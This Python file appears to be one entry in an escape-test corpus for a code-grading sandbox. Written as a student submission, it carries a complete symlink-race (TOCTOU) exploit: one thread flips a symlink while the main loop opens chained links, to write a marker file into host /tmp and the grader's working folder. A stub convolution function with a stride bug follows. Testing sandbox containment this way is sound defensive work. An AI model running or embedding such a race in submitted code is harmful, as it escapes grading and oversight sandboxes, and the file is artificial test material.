"""Escape corpus, attack 7: a symlink race (TOCTOU) between the guard's path check and the open.

What it attacks: the audit hook decides on ``realpath(path)`` and only then does the kernel
open the path, resolving it again. The submission never creates a link that points outside
at creation time (the guard checks link targets): ``link`` points to
``t/../../..(one more ".." than the run folder is deep)/tmp/cnngrade-escape-race.txt`` and
``t`` points to a deep folder ``d0/d1/...`` inside the run folder, so the whole chain lands
inside (``d0/tmp/...``). A thread keeps flipping ``t`` between that deep folder and ``.``
(both inside, each flip an atomic rename) while the main thread opens ``link`` for
appending, over and over: when ``t`` is deep at the check and ``.`` at the open, the
chain climbs out to the real /tmp (and likewise to the grader's working folder).

A successful attack: ``cnngrade-escape-race.txt`` appears in /tmp or the grader's cwd.
Contained: the sandbox's view has no host /tmp or grader folder to reach, however the race
goes; the honest part keeps its marks. Bounded: about 1.5 s, a few thousand opens.
"""
import os
import sys
import threading
import time

REPORT = {}
HERE = os.path.dirname(os.path.realpath(__file__))
DEPTH = len([p for p in HERE.split("/") if p])
DEEP = "/".join(f"d{i}" for i in range(DEPTH + 2))
MARKER = "cnngrade-escape: written through a symlink race\n"


def _flip(stop):
    deep = True
    while not stop.is_set():
        try:
            os.symlink(DEEP if deep else ".", "t.new")
            os.replace("t.new", "t")
        except (OSError, ImportError):
            try:
                os.remove("t.new")
            except (OSError, ImportError):
                pass
        deep = not deep


def _race(targets, seconds=1.5):
    os.chdir(HERE)
    os.makedirs(DEEP, exist_ok=True)
    if not os.path.lexists("t"):
        os.symlink(DEEP, "t")
    links = []
    for n, target in enumerate(targets):
        os.makedirs(os.path.join("d0", os.path.dirname(target.lstrip("/"))), exist_ok=True)
        name = f"link{n}"
        os.symlink("t/" + "../" * (DEPTH + 1) + target.lstrip("/"), name)  # lands inside now
        links.append((name, target))
    stop = threading.Event()
    flipper = threading.Thread(target=_flip, args=(stop,), daemon=True)
    old = sys.getswitchinterval()
    sys.setswitchinterval(1e-6)
    flipper.start()
    tries, refused, end = 0, 0, time.monotonic() + seconds
    try:
        while time.monotonic() < end and tries < 20000:
            for name, target in links:
                tries += 1
                try:
                    with open(name, "a") as fh:
                        fh.write(MARKER)
                except (OSError, ImportError):  # ImportError: the guard's ForbiddenError
                    refused += 1
            if tries % 500 < len(links) and all(os.path.exists(t) for _, t in links):
                break  # out everywhere: no need to go on
    finally:
        stop.set()
        flipper.join(2)
        sys.setswitchinterval(old)
    REPORT.update(tries=tries, refused=refused,
                  escaped=[t for _, t in links if os.path.exists(t)])


def _targets():
    targets = ["/tmp/cnngrade-escape-race.txt"]
    try:
        targets.append(os.path.join(os.readlink(f"/proc/{os.getppid()}/cwd"),
                                    "cnngrade-escape-race.txt"))
    except OSError:
        pass
    return targets


try:
    _race(_targets())
except BaseException as exc:
    REPORT["error"] = repr(exc)
print("cnngrade-escape report:", REPORT)


# --- honest part: what this student really wrote (the test grades it alone) ---
import numpy as np


def _honest_conv2d(x, w, b, stride=1, padding=0):
    """Loops over output positions; forgets that the stride moves the window."""
    ph, pw = (padding, padding) if np.isscalar(padding) else (int(padding[0]), int(padding[1]))
    N, C, H, W = x.shape
    F, _, KH, KW = w.shape
    xp = np.pad(x, ((0, 0), (0, 0), (ph, ph), (pw, pw)))
    HO, WO = xp.shape[2] - KH + 1, xp.shape[3] - KW + 1
    out = np.empty((N, F, HO, WO))
    for i in range(HO):
        for j in range(WO):
            win = xp[:, :, i:i + KH, j:j + KW]
            out[:, :, i, j] = np.tensordot(win, w, axes=([1, 2, 3], [1, 2, 3]))
    return out + b[None, :, None, None]
# --- end honest part ---


def conv2d_forward(x, w, b, stride=1, padding=0):
    return _honest_conv2d(x, w, b, stride, padding)
